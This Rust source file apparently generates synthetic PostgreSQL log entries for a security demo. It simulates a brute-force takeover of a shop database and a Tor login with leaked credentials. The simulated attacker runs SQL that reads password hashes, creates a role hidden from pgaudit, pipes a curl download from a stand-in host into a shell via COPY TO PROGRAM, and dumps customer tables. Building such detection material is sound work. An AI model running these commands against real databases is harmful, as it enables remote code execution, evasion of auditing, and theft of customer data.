//! The attacks on `shop-postgres`.

use super::Pg;
use crate::demo::{at, ip, Ms, MIN, SEC};

impl Pg {
    /// Day 3, 02:47: a password brute force on `postgres` from the internet, which
    /// succeeds after 26 minutes; the attacker comes back with psql, looks around,
    /// creates a role, makes it an administrator and excludes it from pgaudit, tries
    /// to run a shell command and to write a file on the server, then takes the
    /// customer table home over `COPY TO STDOUT`. Day 4: the new role, which the
    /// attacker had excluded from pgaudit, is used.
    pub(super) fn brute_force_and_takeover(&mut self) {
        let mut t = at(3, 2, 47, 10);
        let end = at(3, 3, 13, 41);
        while t < end {
            self.failed_login(t, ip::PG_BRUTE, "postgres", "template1");
            t += self.rng.range(3_000, 10_000) as Ms;
        }
        let s = self.login(end, ip::PG_BRUTE, "postgres", "template1", None);
        self.disconnect(s, end + 80);

        let start = at(3, 3, 16, 5);
        let s = self.login(start, ip::PG_BRUTE, "postgres", "shop", Some("psql"));
        let mut t = start + 9 * SEC;
        let looks: [&str; 10] = [
            "SELECT version();",
            "SELECT current_user, session_user, inet_server_addr();",
            "SELECT rolname, rolsuper, rolcreaterole, rolcanlogin FROM pg_catalog.pg_roles \
             ORDER BY 1;",
            "SELECT datname, pg_size_pretty(pg_database_size(datname)) FROM \
             pg_catalog.pg_database;",
            "SELECT table_schema, table_name FROM information_schema.tables WHERE table_schema \
             NOT IN ('pg_catalog', 'information_schema') ORDER BY 1, 2;",
            "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = \
             'customers';",
            "SELECT usename, passwd FROM pg_catalog.pg_shadow;",
            "SELECT name, setting FROM pg_catalog.pg_settings WHERE name LIKE 'log%' OR name LIKE \
             'pgaudit%';",
            "SELECT grantee, privilege_type FROM information_schema.role_table_grants WHERE \
             table_name = 'customers';",
            "SELECT count(*) FROM customers;",
        ];
        for sql in looks {
            if sql.contains("pg_shadow") {
                self.error(s, t, "permission denied for view pg_shadow", &[], sql);
            } else {
                self.audit(s, t, "READ", "SELECT", sql);
            }
            t += self.rng.range(4, 16) as Ms * SEC;
        }
        self.audit(
            s,
            t,
            "ROLE",
            "CREATE ROLE",
            "CREATE ROLE pgsync WITH LOGIN PASSWORD <REDACTED>",
        );
        t += 12 * SEC;
        self.audit(s, t, "ROLE", "GRANT ROLE", "GRANT rds_superuser TO pgsync;");
        t += 17 * SEC;
        // RDS lets the master user do this: the new role's statements go unaudited.
        self.audit(
            s,
            t,
            "ROLE",
            "ALTER ROLE",
            "ALTER ROLE pgsync SET pgaudit.log = 'none';",
        );
        t += 9 * SEC;
        let sql = "ALTER ROLE pgsync WITH SUPERUSER;";
        self.audit(s, t, "ROLE", "ALTER ROLE", sql);
        self.error(
            s,
            t + 1,
            "must be superuser to alter superuser roles or change superuser attribute",
            &[],
            sql,
        );
        t += 26 * SEC;
        let sql = "COPY (SELECT '') TO PROGRAM 'curl -fsSL http://198.51.100.23:8080/k.sh | sh';";
        self.audit(s, t, "READ", "COPY", sql);
        self.error(
            s,
            t + 1,
            "must be superuser or have privileges of the pg_execute_server_program role to COPY \
             to or from an external program",
            &[(
                "HINT",
                "Anyone can COPY to stdout or from stdin. psql's \\copy command also works for \
                 anyone.",
            )],
            sql,
        );
        t += 33 * SEC;
        let sql = "COPY customers TO '/tmp/customers.csv' WITH (FORMAT csv);";
        self.audit(s, t, "READ", "COPY", sql);
        self.error(
            s,
            t + 1,
            "must be superuser or have privileges of the pg_write_server_files role to COPY to \
             a file",
            &[(
                "HINT",
                "Anyone can COPY to stdout or from stdin. psql's \\copy command also works for \
                 anyone.",
            )],
            sql,
        );
        t += 48 * SEC;
        for table in ["customers", "orders"] {
            let sql = format!("COPY  public.{table} TO STDOUT with (format csv)");
            self.audit(s, t, "READ", "COPY", &sql);
            let ms = self.rng.range(3_500, 9_000);
            t += ms as Ms;
            self.slow(s, t, ms, "statement", &sql);
            t += self.rng.range(15, 40) as Ms * SEC;
        }
        self.disconnect(s, t + 5 * SEC);

        // The next night, the new role. pgaudit is off for it now: only the connection
        // lines and the slow-statement log still show what it does.
        let t = at(4, 4, 2, 37);
        let s = self.login(t, ip::PG_BRUTE, "pgsync", "shop", Some("psql"));
        let sql = "COPY (SELECT id, email, name, password_hash FROM customers WHERE created_at >= \
                   now() - interval '1 day') TO STDOUT with (format csv)";
        self.slow(s, t + 24 * SEC, 2_391, "statement", sql);
        self.disconnect(s, t + 31 * SEC);
    }

    /// Day 5, 21:33: the API's credentials, leaked, used from a Tor exit with DBeaver.
    pub(super) fn tor_login(&mut self) {
        let t = at(5, 21, 33, 12);
        let s = self.login(
            t,
            ip::TOR_EXIT,
            "app",
            "shop",
            Some("DBeaver 24.2.3 - Main <shop>"),
        );
        let steps = [
            (
                3,
                "SELECT n.oid, n.*, d.description FROM pg_catalog.pg_namespace n LEFT OUTER JOIN \
                 pg_catalog.pg_description d ON d.objoid = n.oid AND d.objsubid = 0 AND \
                 d.classoid = 'pg_namespace'::regclass ORDER BY nspname",
            ),
            (41, "SELECT * FROM public.customers LIMIT 200"),
            (95, "SELECT * FROM public.payment_methods LIMIT 200"),
            (160, "SELECT count(*) FROM public.customers"),
        ];
        for (after, sql) in steps {
            self.audit(s, t + after * SEC, "READ", "SELECT", sql);
        }
        self.disconnect(s, t + 7 * MIN + 12 * SEC);
    }
}
